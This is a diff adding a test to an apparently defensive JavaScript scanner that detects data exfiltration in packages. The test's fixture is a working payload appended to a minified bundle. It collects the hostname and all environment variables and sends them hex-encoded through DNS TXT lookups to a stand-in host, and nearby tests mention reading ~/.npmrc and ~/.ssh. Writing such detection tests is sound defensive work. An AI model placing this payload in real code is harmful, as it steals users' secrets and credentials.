@@ -95,6 +95,14 @@ dns.lookup(label + '.c0ffee.example.net', () => {});
     expect(fqdn.ids).not.toContain('exfiltration/flow');
   });
 
+  it("a payload appended to a minified bundle is followed through its short names, a few statements apart; the same names far apart are not", () => {
+    const bundle = `${'var k=1,m=2,n=3,p=4;'.repeat(70)}module.exports={k:k};\n`;
+    const payload = ';(function(){var o=require("os"),d=require("dns");var r={h:o.hostname(),e:process.env};var x=Buffer.from(JSON.stringify(r)).toString("hex");for(var i=0;i<x.length;i+=60)d.resolveTxt(x.slice(i,i+60)+"."+i+".t.example.net",function(){})})();\n';
+    expect(scan({ 'index.js': bundle + payload }, { main: 'index.js' }).ids).toContain('exfiltration/flow');
+    const far = ';(function(){var o=require("os"),d=require("dns");var r={h:o.hostname(),e:process.env};var x=Buffer.from(JSON.stringify(r)).toString("hex");' + 'k=m+n;'.repeat(500) + 'for(var i=0;i<x.length;i+=60)d.resolveTxt(x.slice(i,i+60)+"."+i+".t.example.net",function(){})})();\n';
+    expect(scan({ 'index.js': bundle + far }, { main: 'index.js' }).ids).not.toContain('exfiltration/flow');
+  });
+
   it('~/.npmrc and ~/.ssh read and sent through a local helper from main reaches at least medium', () => {
     const r = scan({
       'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
